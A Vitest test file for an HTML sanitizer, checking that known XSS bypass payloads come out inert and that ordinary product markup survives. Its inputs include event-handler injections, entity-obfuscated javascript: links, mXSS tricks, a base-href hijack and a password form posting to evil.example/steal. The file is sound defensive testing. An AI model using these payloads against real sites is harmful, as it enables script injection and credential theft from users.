// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize';

const DANGEROUS_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'svg', 'math', 'base', 'link', 'meta'];

/** Parses the output the way innerHTML will and lists everything that could run or phish. */
function hazards(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  for (const el of template.content.querySelectorAll('*')) {
    const tag = el.localName;
    if (DANGEROUS_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      const value = Array.from(attr.value)
        .filter((ch) => ch.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
      if (['style', 'srcdoc', 'action', 'formaction'].includes(attr.name)) found.push(`${tag}[${attr.name}]`);
      if (/^(javascript|vbscript):/.test(value)) found.push(`${tag}[${attr.name}=${value}]`);
      if (value.startsWith('data:') && !(tag === 'img' && attr.name === 'src' && value.startsWith('data:image/png'))) {
        found.push(`${tag}[${attr.name}=data:]`);
      }
    }
  }
  return found;
}

describe('sanitizeHtml: known bypass payloads come out inert', () => {
  it.each([
    ['nested script tags', '<scr<script>ipt>alert(1)</script>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['javascript: with a hex entity', '<a href="jav&#x61;script:alert(1)">x</a>'],
    ['javascript: with a decimal entity', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['javascript: with a tab and mixed case', '<a href="JaVa\tScRiPt:alert(1)">x</a>'],
    ['data: split by a newline', '<a href="da\nta:text/html,<script>alert(1)</script>">x</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['script inside svg', '<svg><script>alert(1)</script></svg>'],
    ['svg onload', '<svg onload=alert(1)>'],
    ['mXSS through math/mglyph/style', '<math><mi><mglyph><style><img src=x onerror=alert(1)>'],
    ['mXSS through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['form action', '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>'],
    ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['object and embed', '<object data="evil.swf"></object><embed src="evil.swf">'],
    ['style tag', '<style>body{display:none}</style><p>hi</p>'],
    ['style attribute overlay', '<div style="position:fixed;inset:0">fake login</div>'],
    ['body onload', '<body onload=alert(1)>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>'],
    ['svg data: image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
    ['data: video', '<video src="data:video/mp4;base64,AAAA"></video>'],
    ['base href hijack', '<base href="https://evil.example/">'],
  ])('%s', (_label, payload) => {
    const clean = sanitizeHtml(payload);
    expect(hazards(clean)).toEqual([]);
    expect(clean).not.toMatch(/alert\(1\)<\/script>|onerror|onload|ontoggle|javascript:/i);
  });

  it('the hazard check itself catches each kind of hazard', () => {
    expect(hazards('<img src=x onerror=alert(1)><a href="javascript:x">y</a><svg></svg><p style="x"></p>')).toEqual([
      'img[onerror]',
      'a[href=javascript:x]',
      '<svg>',
      'p[style]',
    ]);
  });
});

describe('sanitizeHtml: harmless markup survives', () => {
  it.each([
    ['<p>Heavy-duty <strong>stainless</strong> steel</p>', '<p>Heavy-duty <strong>stainless</strong> steel</p>'],
    ['<ul><li>One</li><li>Two</li></ul>', '<ul><li>One</li><li>Two</li></ul>'],
    ['<a href="https://example.com/warranty">Warranty</a>', '<a href="https://example.com/warranty">Warranty</a>'],
    ['<a href="/pages/return-policy">Returns</a>', '<a href="/pages/return-policy">Returns</a>'],
    ['<a href="mailto:help@example.com">Mail</a>', '<a href="mailto:help@example.com">Mail</a>'],
    ['Line one<br>Line two', 'Line one<br>Line two'],
    ['<h3>Specs</h3><table><tbody><tr><td>5 L</td></tr></tbody></table>', '<h3>Specs</h3><table><tbody><tr><td>5 L</td></tr></tbody></table>'],
    ['<img src="https://cdn.example/p.png" alt="Pan">', '<img src="https://cdn.example/p.png" alt="Pan">'],
    ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="icon">', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="icon">'],
    ['Fish &amp; chips 5 &lt; 6', 'Fish &amp; chips 5 &lt; 6'],
    ['', ''],
  ])('%s', (input, expected) => {
    expect(sanitizeHtml(input)).toBe(expected);
  });

  it('keeps the text of removed elements that are only formatting risks', () => {
    expect(sanitizeHtml('<div style="color:red">Red</div>')).toBe('<div>Red</div>');
    expect(sanitizeHtml('<img src=x onerror=alert(1)>')).toBe('<img src="x">');
  });
});

describe('sanitizeHtml: which window', () => {
  it('uses a window it is given (another frame, or a server-side jsdom)', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const other = frame.contentWindow as unknown as Parameters<typeof sanitizeHtml>[1];
    expect(other).toBeTruthy();
    expect(sanitizeHtml('<p onclick="x()">Hi</p>', other)).toBe('<p>Hi</p>');
    frame.remove();
  });

  it('gives the same answer on repeated calls (the purifier is created once per window)', () => {
    const payload = '<a href="&#106;avascript:alert(1)">x</a>';
    expect(sanitizeHtml(payload)).toBe(sanitizeHtml(payload));
    expect(sanitizeHtml(payload)).toBe('<a>x</a>');
  });
});
